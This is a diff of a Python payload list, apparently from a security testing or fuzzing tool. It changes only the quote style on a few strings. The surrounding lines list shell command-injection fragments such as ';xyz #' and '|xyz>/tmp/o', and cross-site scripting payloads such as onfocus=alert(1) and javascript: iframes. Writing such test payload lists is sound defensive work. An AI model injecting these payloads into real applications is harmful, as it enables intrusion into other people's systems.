@@ -275,7 +275,7 @@ SHELL: tuple[Payload, ...] = (
     "$(xyz)&",
     ";xyz #",
     "';xyz;'",
-    "\";xyz;\"",
+    '";xyz;"',
     "|xyz>/tmp/o",
     ";xyz 2>&1",
     "<(xyz)",
@@ -299,7 +299,7 @@ SHELL: tuple[Payload, ...] = (
 
 XSS_ATTR: tuple[Payload, ...] = (
     '" autofocus onfocus=alert(1) x="',
-    "\" onmouseover=\"alert(1)",
+    '" onmouseover="alert(1)',
     "' onfocus='alert(1)' autofocus '",
     '" onpointerenter=prompt`1` x="',
     "x onerror=alert(1)",
@@ -347,7 +347,7 @@ XSS_ATTR: tuple[Payload, ...] = (
     '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/>',
     "<iframe src=javascript:alert(1)>",
     '"><body onpageshow=alert(1)>',
-    '<a id=x tabindex=1 onfocus=alert(1)></a>',
+    "<a id=x tabindex=1 onfocus=alert(1)></a>",
 )
 
 FAMILIES: dict[str, tuple[Payload, ...]] = {
